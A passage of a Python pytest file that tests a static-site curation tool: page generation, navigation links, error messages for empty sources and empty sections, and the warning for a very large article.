    assert element_text(site_html(root, "sources/big-paragraph.md"), "lead--p1") == BIG_PARAGRAPH


def test_no_generated_page_is_empty_and_every_nav_entry_is_a_page(degenerate_site):
    root, _ = degenerate_site
    for path, data in generated(root).items():
        text = data.decode()
        h1 = re.search(r"^# (.+)$", text, re.MULTILINE)
        assert h1 and h1.group(1).strip(), path
        content = text_of(article(site_html(root, path)))
        assert len(content) > len(h1.group(1)) + 10, path

    def walk(items):
        for item in items:
            for value in item.values():
                yield from walk(value) if isinstance(value, list) else [value]

    nav = json.loads((root / "docs" / ".curate-manifest.json").read_text())["nav"]
    for target in walk(nav):
        assert (root / "docs" / target).is_file(), target
        site_html(root, target)  # rendered
    assert_links_resolve(root)


def test_empty_sources_are_errors_under_strict_and_nothing_is_written(tmp_path):
    root = write_project(tmp_path, {"empty.txt": "", "good.txt": "Good article\n\nSome text.\n",
                                    "good.meta.yml": "published: 2024-08\n"}, [page("page-one", ["good"])])
    code, _, err = curate(root, "--strict")
    assert code == 1
    assert "\ncontent_sources/articles/empty.txt: the file is empty; it makes no page" in err
    assert "(an error under --strict)" in err and "<project>" not in err
    assert [p for p in snapshot(root / "docs") if not p.startswith("assets/")] == []
    assert curate(root)[0] == 0  # without --strict the rest of the site builds
    assert (root / "docs" / "sources" / "good.md").exists()


def test_feeding_a_page_a_section_empty_after_cleaning_is_an_error_naming_the_line(tmp_path):
    root = write_project(tmp_path, {"art.txt": DEGENERATE["empty-section.txt"]},
                         [page("page-one", ["art#empty-section"])])
    code, _, err = curate(root)
    assert code == 1
    assert ("content_sources/curation.yml:8: pages[0].sections[0]: section 'empty-section' of source 'art' has no "
            "text after cleaning (content_sources/articles/art.txt:5)\n    hint: feed the page another section") in err


def test_a_five_megabyte_article_builds_with_a_warning(tmp_path):
    paragraph = "Open models are released with weights that anyone may download and study. " * 6
    sections = [f"Section {i}\n\n" + "\n\n".join([paragraph] * 10) for i in range(1200)]
    text = "A very long article\n\n" + "\n\n".join(sections) + "\n"
    assert len(text.encode()) > 5_000_000
    root = write_project(tmp_path, {"huge.txt": text, "good.txt": "Good article\n\nSome text.\n"},
                         [page("page-one", ["good"])])
    code, _, err = curate(root)
    assert code == 0
    assert (f"warning: content_sources/articles/huge.txt: source is {len(text.encode()) / 1e6:.1f} MB (more than 2 "
            "MB): check it is one article, not a whole saved site\n    hint: split it, or keep only the article") in err
    md = docs_text(root, "sources/huge.md")
    assert md.count("{ #section-1199--p") == 10 and "## Section 1199 { #section-1199 }" in md
    assert "Some text." in docs_text(root, "page-one.md")
